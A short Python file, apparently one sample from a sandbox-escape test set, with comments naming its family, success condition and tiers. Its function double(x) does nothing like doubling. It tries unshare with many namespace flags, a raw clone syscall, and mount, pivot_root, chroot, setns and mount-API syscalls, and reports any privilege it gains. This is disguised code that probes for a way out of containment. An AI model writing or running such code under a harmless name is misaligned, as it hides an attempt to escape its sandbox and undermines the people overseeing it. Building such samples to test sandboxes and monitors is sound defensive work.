# family: the kernel
# success: a namespace of its own gives it rights, and with these a mount
# tiers: A B
# sees: None
import ctypes

def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000, 0x80):
        if libc.unshare(flag) == 0:
            return f"GAINED namespace {flag:x}"
        if libc.syscall(56, flag | 17, 0, 0, 0, 0) >= 0:
            return f"GAINED clone {flag:x}"
    for number in (165, 166, 155, 161, 428, 429, 430, 432, 442, 308):
        if libc.syscall(number, b"/", b"/", b"tmpfs", 0, 0) >= 0:
            return f"GAINED mount call {number}"
